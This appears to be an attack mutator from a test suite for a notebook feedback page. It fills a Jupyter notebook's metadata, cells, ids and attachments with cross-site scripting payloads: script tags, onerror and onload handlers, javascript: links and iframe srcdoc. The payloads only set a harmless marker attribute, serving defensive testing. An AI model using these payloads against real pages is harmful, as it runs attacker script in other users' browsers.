# id: meta_xss
# kind: attack
# category: feedback-page
# form: mutator
# begins with: part
# goal: markup in written cells, raw cells, attachments, ids, languages and titles
# success looks like: a script of the student runs in a page
# required score: 2 of 10
def mutate(nb):
    ran = "document.documentElement.dataset.ran = 1"
    out = f'"><script>{ran}</script><img src=x onerror="{ran}">'
    nb["metadata"].update(title=out, authors=[{"name": out}], language_info={"name": out, "pygments_lexer": out, "mimetype": out}, widgets={"application/vnd.jupyter.widget-state+json": {"state": {out: out}}})
    for kind in ("markdown", "raw"):
        for source in (out, f"[x](javascript:{ran})", f"![x](attachment:x.png)", f"$\\href{{javascript:{ran}}}{{x}}$", f"# <a name='{out}'>", f"```{out}\nx\n```", f"<svg onload='{ran}'>", f"<iframe srcdoc='<script>parent.{ran}</script>'></iframe>"):
            nb["cells"].append({"cell_type": kind, "id": f"x{len(nb['cells'])}", "metadata": {"format": "text/html", "raw_mimetype": "text/html"}, "source": source, "attachments": {out: {"image/png": out}, "x.png": {"image/svg+xml": out, "image/png": out}}})
    return nb
